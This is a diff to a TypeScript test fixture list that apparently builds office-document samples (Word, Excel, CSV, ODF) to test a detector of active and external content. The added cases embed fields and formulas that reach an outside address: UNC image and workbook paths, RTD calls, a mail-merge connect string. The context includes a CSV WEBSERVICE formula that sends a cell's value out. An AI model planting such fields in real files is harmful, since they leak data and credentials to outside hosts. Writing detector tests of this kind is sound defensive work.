@@ -73,6 +73,18 @@ export const activeFiles: ActiveFile[] = [
     fields('LINK Excel.Sheet.8 "http://198.51.100.7/a.xls"'),
   ),
   word('Text von woanders', ['external'], fields('INCLUDETEXT "http://198.51.100.7/a.docx"')),
+  word(
+    'Bild von woanders als Feld',
+    ['external'],
+    fields(String.raw`INCLUDEPICTURE \d \* MERGEFORMAT "\\198.51.100.7\a\b.png"`),
+  ),
+  word('Bild von woanders als Zeichnung', ['external'], {
+    'word/document.xml': body('<w:pict><v:imagedata src="http://198.51.100.7/a.png"/></w:pict>'),
+  }),
+  word('Serienbrief an einer Datenbank', ['external'], {
+    'word/settings.xml':
+      '<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="Provider=MSDASQL;Server=198.51.100.7"/></w:mailMerge></w:settings>',
+  }),
   {
     name: 'XLM-Makros.xlsx',
     found: ['macros'],
@@ -133,6 +145,16 @@ export const activeFiles: ActiveFile[] = [
     make: () => sheetWith('<c><f>_xlfn.IMAGE("http://198.51.100.7/a.png")</f></c>'),
   },
   {
+    name: 'Formel an einem Programm.xlsx',
+    found: ['external'],
+    make: () => sheetWith('<c><f>RTD("any.program","198.51.100.7","x")</f></c>'),
+  },
+  {
+    name: 'Formel an einer Tabelle im Netz.xlsx',
+    found: ['external'],
+    make: () => sheetWith(String.raw`<c><f>'\\198.51.100.7\a\[b.xlsx]Tabelle1'!A1</f></c>`),
+  },
+  {
     name: 'Abfrage im Netz.xlsx',
     found: ['external'],
     make: () =>
@@ -187,6 +209,11 @@ export const activeFiles: ActiveFile[] = [
     ['external'],
     inContent('<text:section-source xlink:href="../a.odt"/>'),
   ),
+  text(
+    'Formular mit Daten von woanders',
+    ['external'],
+    inContent('<xforms:instance src="http://198.51.100.7/a.xml"/>'),
+  ),
   text('DDE', ['dde'], inContent('<text:dde-connection-decl office:name="a"/>')),
   {
     name: 'DDE.ods',
@@ -230,6 +257,27 @@ export const activeFiles: ActiveFile[] = [
     name: 'Formel ins Netz.csv',
     found: ['external'],
     make: () => Buffer.from('a;b\r\n"=WEBSERVICE(""http://198.51.100.7/?""&A1)";2\r\n'),
+  },
+  {
+    name: 'Formel an einem Programm.csv',
+    found: ['external'],
+    make: () => Buffer.from('a;b\r\n"=RTD(""any.program"",,""x"")";2\r\n'),
+  },
+  {
+    name: 'Formel an einer Tabelle im Netz.csv',
+    found: ['external'],
+    make: () => Buffer.from(String.raw`a;b;='\\198.51.100.7\a\[b.xlsx]Tabelle1'!A1`),
+  },
+  {
+    name: 'Formel an einer Tabelle im Netz.ods',
+    found: ['external'],
+    make: () =>
+      opendocument(
+        'spreadsheet',
+        inContent(
+          `<table:table-cell table:formula="of:=['file://198.51.100.7/a.ods'#$Tabelle1.A1]"/>`,
+        ),
+      ),
   },
   {
     name: 'Formel ins Netz.ods',
